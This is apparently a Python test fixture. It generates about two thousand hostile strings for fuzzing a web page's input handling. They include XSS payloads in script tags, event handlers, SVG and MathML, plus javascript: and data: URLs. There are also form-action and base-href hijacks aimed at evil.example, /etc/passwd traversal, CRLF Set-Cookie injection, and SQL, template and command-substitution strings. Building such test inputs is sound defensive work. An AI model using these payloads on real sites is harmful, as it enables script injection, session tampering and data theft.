"""Two thousand nasty strings: all that people have tried to get a page to run or to break."""

import random

# Each tries to leave a mark that the browser's side looks for.
DEED = "window.__pwned=1"

SCRIPTS = [
    f"<script>{DEED}</script>",
    f"<script >{DEED}</script >",
    f"<script/x>{DEED}</script>",
    f"<script src=data:,{DEED}></script>",
    f"<script type=module>{DEED}</script>",
    f"<<script>{DEED}//<</script>",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    f"</script><script>{DEED}</script>",
    f"</title><script>{DEED}</script>",
    f"</textarea><script>{DEED}</script>",
    f"</option></select><script>{DEED}</script>",
    f"</style><script>{DEED}</script>",
    f"</noscript><script>{DEED}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    f"--><script>{DEED}</script><!--",
    f"]]><script>{DEED}</script>",
    f"<![CDATA[<script>{DEED}</script>]]>",
    f"<!--[if gte IE 4]><script>{DEED}</script><![endif]-->",
    f"<?xml version='1.0'?><script>{DEED}</script>",
]
HANDLERS = [
    f"<img src=x onerror={DEED}>",
    f"<img src=x onerror='{DEED}'>",
    f"<img/src=x/onerror={DEED}>",
    f"<img src=x oneonerrorrror={DEED}>",
    f"<image src=x onerror={DEED}>",
    f"<body onload={DEED}>",
    f"<body onpageshow={DEED}>",
    f"<input autofocus onfocus={DEED}>",
    f"<select autofocus onfocus={DEED}>",
    f"<details open ontoggle={DEED}>",
    f"<video><source onerror={DEED}>",
    f"<audio src=x onerror={DEED}>",
    f"<marquee onstart={DEED}>",
    f"<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    f"<iframe onload={DEED}>",
    f"<object data=x onerror={DEED}>",
    f"<embed src=x onerror={DEED}>",
    f"<a autofocus tabindex=1 onfocus={DEED}>x</a>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={DEED}>",
    f"<xss onpointerrawupdate={DEED} style=position:fixed;inset:0>",
]
BREAKERS = [
    f'" onfocus={DEED} autofocus x="',
    f"' onfocus={DEED} autofocus x='",
    f"` onfocus={DEED} autofocus x=`",
    f'"><img src=x onerror={DEED}>',
    f"'><img src=x onerror={DEED}>",
    f'">\'><svg onload={DEED}>',
    f'" style="animation-name:x" onanimationstart="{DEED}',
    '"><form action=//evil.example><input name=code>',
    '"></form><form action=https://evil.example>',
    '"><base href=//evil.example/>',
    '"><meta http-equiv=refresh content="0;url=//evil.example">',
    '"><link rel=stylesheet href=//evil.example/x.css>',
    '"><style>*{display:none}</style>',
    "</main></body></html>",
    "</form></li></ol></section>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<main><main><form><form>",
    "<template><script>1</script></template>",
]
ADDRESSES = [
    f"javascript:{DEED}",
    f"JaVaScRiPt:{DEED}",
    f"java\tscript:{DEED}",
    f"\x01javascript:{DEED}",
    f"javascript://%0a{DEED}",
    f"data:text/html,<script>{DEED}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{DEED}",
    f"<a href=javascript:{DEED}>x</a>",
    f"<form action=javascript:{DEED}><button>x</button></form>",
    "//evil.example/x.js",
    "https://evil.example/?a=1&b=2#c",
    "/\\evil.example",
    "http://[::1]:1/",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "%00%0d%0aSet-Cookie:%20commedia-host=x",
    "x\r\nSet-Cookie: commedia-host=x",
]
DRAWN = [
    f"<svg onload={DEED}>",
    f"<svg/onload={DEED}>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<svg><set onbegin={DEED} attributeName=x>",
    f"<svg><a xlink:href=javascript:{DEED}><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={DEED}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={DEED}></style></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DEED}/>#x'/>",
    f"<svg></p><style><a id='</style><img src=1 onerror={DEED}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}>",
    f"<math><mi><a xlink:href=javascript:{DEED}>x</a></mi></math>",
    f"<math href=javascript:{DEED}>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    f"<path id='</style><img onerror={DEED} src>'>",
]
TEMPLATES = [
    "{ $x }",
    "{$name}",
    "{ -brand }",
    "{ \"quoted\" }",
    "{ $n -> [one] one *[other] many }",
    "key = value",
    "{",
    "}",
    "{{7*7}}",
    "${7*7}",
    f"${{{DEED}}}",
    f"{{{{constructor.constructor('{DEED}')()}}}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "@(7*7)",
    "[[7*7]]",
    "%s%s%s%n",
    "{0}{1}",
    "$(id)",
    "`id`",
    "'; DROP TABLE campaigns; --",
    "1' OR '1'='1",
    "\\",
    "\\u003cscript\\u003e",
]
MARKS = [
    f"[x](javascript:{DEED})",
    f"![x](x\"onerror=\"{DEED})",
    f"<javascript:{DEED}>",
    f"[x]: javascript:{DEED}",
    "**bold** _it_ `code`",
    "# Heading",
    "- <a id=\"risus-01\"></a> rule",
    "| a | b |\n|---|---|",
    "```\ncode\n```",
    "> quote",
    "---",
    "&lt;script&gt;",
    "&amp;lt;script&amp;gt;",
    f"&#60;img src=x onerror={DEED}&#62;",
    f"&#x3c;img src=x onerror={DEED}&#x3e;",
    "&nbsp;&shy;&zwj;&NewLine;&Tab;",
    "&quot; &apos; &#0; &#xD800; &notit;",
]
STRANGE = [
    "\0",
    "a\0b",
    f"<scr\0ipt>{DEED}</script>",
    "\x01\x02\x07\x08\x1b[31mred\x1b[0m",
    "\x7f\x80\x85\x9f",
    "a\nb",
    "a\r\nb",
    "\t\t\t",
    "a\u2028b\u2029c",
    "\u202eevil\u202c",
    "\u2066\u2067\u2068x\u2069",
    "A\u200bnn",
    "A\u200dnn\ufeff",
    "\u00adsoft\u00ad",
    "e" + "\u0301" * 30,
    "Z" + "\u0335\u0310\u0353" * 12,
    "👩‍👩‍👧‍👦🏳️‍🌈🇫🇷",
    "🤡" * 40,
    "𝕊𝕔𝕣𝕚𝕡𝕥",
    "＜script＞window.__pwned=1＜/script＞",
    "\ufffe\uffff",
    "\U000e0001\U000e0020",
    "مرحبا بالعالم",
    "שלום",
    "ﷺ" * 20,
    "ẞßſİıK",
    "ＧＭ",
    "gm",
    " gm ",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffff",
    "99999999999999999999",
    "[object Object]",
    "__proto__",
    "constructor",
    "",
    " ",
    "\u3000",
    "a" * 40,
    "a" * 41,
    "é" * 400,
    "é" * 401,
    "<" * 400,
    "&" * 400,
    '"' * 400,
    "x" * 5_000,
    f"<b title='{'x' * 3_000}' onclick={DEED}>",
]
ALL = [*SCRIPTS, *HANDLERS, *BREAKERS, *ADDRESSES, *DRAWN, *TEMPLATES, *MARKS, *STRANGE]


def mixed(text):
    """In small and large letters by turns, which HTML does not mind."""
    return "".join(
        letter.upper() if place % 2 else letter.lower() for place, letter in enumerate(text)
    )


# The same in other spellings.
SPELLINGS = [
    lambda text: text,
    str.upper,
    mixed,
    lambda text: text.replace(DEED, "__pwned=1"),
    lambda text: text.replace(DEED, "alert(1)"),
    lambda text: text.replace(DEED, "alert`1`"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "&lt;"),
    lambda text: text.replace("<", "&LT").replace(">", "&GT"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\x3c").replace("=", "\\x3d"),
    lambda text: text.replace("<", "\u2039<"),
    lambda text: text.replace('"', "&quot;").replace("'", "&#39;"),
    lambda text: '">' + text,
    lambda text: "'>" + text,
    lambda text: "</p>" + text,
    lambda text: "</textarea></title>" + text,
    lambda text: "{ $x }" + text,
    lambda text: "Ann " + text,
    lambda text: text + "\u202e",
    lambda text: "\u200b" + text,
    lambda text: text + "🎭",
    lambda text: text + text,
]


def nasty(number):
    """So many different ones, the plain spellings first, always the same."""
    found = dict.fromkeys(ALL)
    spelt = [spell(text) for spell in SPELLINGS for text in ALL]
    random.Random(10).shuffle(spelt)
    for text in spelt:
        if len(found) == number:
            break
        found.setdefault(text)
    return list(found)


def short(text):
    """The same as a name, which has forty letters at most."""
    return text.replace(DEED, "__pwned=1")[:40].strip()


def quoted(text):
    """The same as sentences of the server quote it: what hides, or hides others, is seen."""
    return "".join("\ufffd" if hides(letter) else letter for letter in text)


def hides(letter):
    """Whether it cannot be seen, or makes others look like something else."""
    code = ord(letter)
    bounds = ((0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x2069), (0x7F, 0x9F))
    alone = (0xAD, 0x61C, 0xFEFF)
    return code < 0x20 or code in alone or any(first <= code <= last for first, last in bounds)
